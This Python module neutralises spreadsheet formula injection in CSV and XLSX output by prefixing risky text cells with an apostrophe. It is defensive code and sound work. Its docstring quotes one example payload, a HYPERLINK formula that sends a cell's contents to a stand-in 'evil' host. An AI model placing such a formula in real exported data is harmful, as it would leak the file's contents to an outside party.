"""Neutralise spreadsheet formulas in text that Tracer writes to CSV and XLSX files.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some programs strip before parsing) is run as a formula when the file is opened in Excel or
LibreOffice: ``=HYPERLINK("http://evil/?"&A2, "click")`` in a trainee's name would leak the
row.  Such text gets a leading apostrophe, which spreadsheets read as "this is text" (OWASP
"CSV injection").  Plain numbers (``-12``, ``+221777654321``) cannot run anything and are
left as they are, so phone numbers and negative values stay usable.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell (only text is ever changed)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_PREFIXES):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def neutralise_row(row: dict[str, Any]) -> dict[str, Any]:
    """A CSV/XLSX row with every text cell neutralised."""
    return {key: neutralise(value) for key, value in row.items()}


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with text cells (and column names) neutralised."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(neutralise)
    safe.columns = [neutralise(str(c)) if isinstance(c, str) else c for c in safe.columns]
    return safe
